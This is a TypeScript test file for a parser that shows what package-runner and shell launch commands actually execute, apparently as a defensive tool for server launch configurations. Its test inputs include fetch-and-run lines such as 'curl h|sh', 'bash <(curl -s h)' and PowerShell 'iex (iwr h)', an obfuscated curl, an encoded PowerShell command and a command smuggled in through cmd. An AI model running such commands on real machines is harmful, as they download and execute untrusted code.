import { expect, it } from 'vitest';
import { launchOf, print } from './print';

const cases: readonly (readonly [words: readonly string[], expected: string])[] = [
  // npm
  [['npx', '-y', '@a/b@1.0.0', '/w'], "npx -y <npm @a/b @1.0.0> '/w'"],
  [['npx', '-p', 'pkg@1', 'bin', '-p', 'x'], "npx -p=pkg@1 <npm pkg @1 bin bin> '-p' 'x'"],
  [['npx', '--package=a', '--package', 'b', 'bin'], 'npx --package=a --package=b <npm a bin bin> <+npm b>'],
  [['npx', 'w-mcp@1.0.0', '-c', 'config.json'], "npx <npm w-mcp @1.0.0> '-c' 'config.json'"],
  [['npx', '-c', 'curl h|sh'], "npx -c=curl h|sh > sh {| curl 'h'}"],
  [['npx', 'shown@npm:real@2'], 'npx <npm real @2 as shown>'],
  [['npx', 'o/r#v1'], 'npx <npm - git:github.com#v1>'],
  [['npx', './o/r'], 'npx <npm - file>'],
  [['npx', 'git+ssh://git@h.example:22/x.git#abc'], 'npx <npm - git:h.example#abc>'],
  [['npx', 'https://h.example/x.tgz'], 'npx <npm - url:h.example>'],
  [['npm', 'exec', '--yes', '--', 'x', '-y'], "npm --yes <npm x> '-y'"],
  [['npm', 'exec', 'x', '--package=y'], 'npm --package=y <npm y bin x>'],
  [['pnpm', 'dlx', 'x@1'], 'pnpm <npm x @1>'],
  [['yarn', 'dlx', '-p', 'x', 'bin'], 'yarn -p=x <npm x bin bin>'],
  [['bun', 'x', '--bun', 'x'], 'bun --bun <npm x>'],
  [['deno', 'run', '-A', 'npm:@a/b@1/bin', 'y'], "deno -A <npm @a/b @1> 'y'"],
  [['deno', 'run', 'jsr:@a/b@1'], 'deno <jsr @a/b @1>'],
  // PyPI and others
  [['uvx', 'name[extra,more]>=1.0,<2'], 'uvx <pypi name >=1.0,<2>'],
  [
    ['uvx', '--from', 'pkg @ git+https://u@h.example/a@ref#subdirectory=x', 'bin'],
    'uvx --from=pkg @ git+https://u@h.example/a@ref#subdirectory=x <pypi pkg git:h.example#ref bin bin>',
  ],
  [
    ['uvx', '--with', 'a[x,y]>=1,<2,b', 'c@latest'],
    'uvx --with=a[x,y]>=1,<2,b <pypi c @latest> <+pypi a >=1,<2> <+pypi b>',
  ],
  [
    ['uv', '--directory', '/d', 'run', '--with', 'mcp', 'python', '-m', 'srv'],
    'uv --directory=/d --with=mcp > python -m=srv <+pypi mcp> module=srv',
  ],
  [['uv', 'run', 'https://h.example/x.py'], 'uv script=https://h.example/x.py'],
  [['pipx', 'run', '--spec', 'a==1', 'b'], 'pipx --spec=a==1 <pypi a ==1 bin b>'],
  [['dnx', 'A.B@1.0', '--yes', '--', 'x'], "dnx --yes <nuget A.B @1.0> 'x'"],
  [['go', 'run', 'h.example/m@v1'], 'go <go h.example/m @v1>'],
  // containers
  [
    ['docker', 'run', '-itv', '/:/h:ro', '-e', 'A=1', '-p', '8080:80', 'h:5000/n:t', 'x'],
    "A:=1 docker -i -t -v=/:/h:ro -e=A=1 -p=8080:80 image=h:5000/n t - mount=/>/h:ro 'x'",
  ],
  [
    ['docker', 'run', '--mount', 'type=bind,src=C:\\x,dst=/x,readonly', 'i'],
    'docker --mount=type=bind,src=C:\\x,dst=/x,readonly image=i - - mount=C:\\x>/x:ro',
  ],
  [['podman', 'run', '-v', 'C:\\x:/x', 'n@sha256:00'], 'podman -v=C:\\x:/x image=n - sha256:00 mount=C:\\x>/x'],
  [['docker', 'exec', '-i', 'box', 'npx', 'x'], 'docker -i on=box > (container) npx <npm x>'],
  // code
  [['node', '-r', './x.js', 'a.js', '-e'], "node -r=./x.js script=a.js '-e'"],
  [['python3.11', '-Ic', 'pass', 'y'], "python3.11 -I -c=pass python=pass 'y'"],
  // wrappers
  [['CMD.EXE', '/d', '/c', 'npx', '-y', 'x@1'], 'CMD.EXE /d /c > npx -y <npm x @1>'],
  [['cmd', '/c', 'set A=1&& npx ^x & calc'], "A:=1 cmd /c > calc {&& A:=1 set 'A=1'} {& npx <npm x>}"],
  [['cmd', '/c', 'start', '/b', 'powershell', '-e', 'QQ=='], 'cmd /c > start /b > powershell -e=QQ== powershell=QQ=='],
  [
    ['pwsh', '-NoProfile', '-Command', "& 'C:\\a b\\npx.cmd' x; iex (iwr h)"],
    "pwsh -NoProfile -Command > iex '(iwr h)' {; npx <npm x>} {substitution iwr 'h'}",
  ],
  [['powershell', 'IEX(iwr h).Content'], "powershell > iex '(iwr h).Content' {substitution iwr 'h'}"],
  [['bash', '-lc', 'exec npx "x"@\'1\''], 'bash -l -c > exec > npx <npm x @1>'],
  [['bash', '-c', 'exec "$@"', '_', 'npx', 'x'], 'bash -c > exec > npx <npm x>'],
  [['bash', '-c', 'cd d && A=1 node y 2>&1 | tee log'], "A:=1 bash -c > node script=y 2>&1 {&& cd 'd'} {| tee 'log'}"],
  [['sh', '-c', 'grim & npx x'], 'sh -c > npx <npm x> {& grim}'],
  [['sh', '-c', 'bash <(curl -s h)'], "sh -c > bash script=<(curl -s h) {substitution curl '-s' 'h'}"],
  [['sh', '-c', "$'\\x63url' h"], "sh -c > curl 'h'"],
  [['sh', '-c', 'if true; then node x; fi # end'], 'sh -c > node script=x {; true}'],
  [['env', '-S', 'A=1 npx x', 'y'], "A:=1 env -S=A=1 npx x > npx <npm x> 'y'"],
  [['wsl', '-d', 'U', '--', 'npx', 'x'], 'wsl -d=U > npx <npm x>'],
  [['sudo', '-u', 'mcp', 'timeout', '5m', 'npx', 'x'], 'sudo -u=mcp > timeout > npx <npm x>'],
  [['pixi', 'run', 'bun', 'x', 'x'], 'pixi > bun <npm x>'],
  [['mise', 'exec', 'node@22', '--', 'npx', 'x'], 'mise > npx <npm x>'],
  [
    ['osascript', '-e', 'do shell script "curl h|sh"'],
    'osascript -e=do shell script "curl h|sh" applescript=do shell script "curl h|sh" {started sh {| curl \'h\'}}',
  ],
  // a line in `command`
  [['npx -y x@1', '--flag'], "npx -y <npm x @1> '--flag'"],
  [['npx -y x && curl h|sh'], "sh {&& npx -y <npm x>} {| curl 'h'}"],
  [['C:\\Program Files\\nodejs\\npx.cmd', 'x'], 'npx <npm x>'],
  [['C:\\Program Files\\nodejs\\npx.cmd -y x'], 'npx -y <npm x>'],
  [['/Applications/Foo Bar.app/Contents/MacOS/x'], 'x script=/Applications/Foo Bar.app/Contents/MacOS/x'],
  [['/opt/x', 'y'], "x script=/opt/x 'y'"],
];

it.each(cases)('reads %j', (words, expected) => {
  expect(print(launchOf(words).launch)).toBe(expected);
});

it.each([
  [['npx', 'mcp-remote', 'https://h.example/sse'], ['https://h.example/sse']],
  [['npx', 'x', '--url=wss://h.example'], ['wss://h.example']],
  [['uvx', '--from', 'a @ git+https://h.example/a', 'b'], ['git+https://h.example/a']],
  [['docker', 'run', '-e', 'U=https://h.example', 'i'], []],
  [['uv', 'run', '--with-requirements', 'http://h.example/r.txt', 's.py'], ['http://h.example/r.txt']],
])('finds the addresses of %j', (words, expected) => {
  expect(launchOf(words).launch.remoteUrls.map(it => it.value)).toEqual(expected);
});
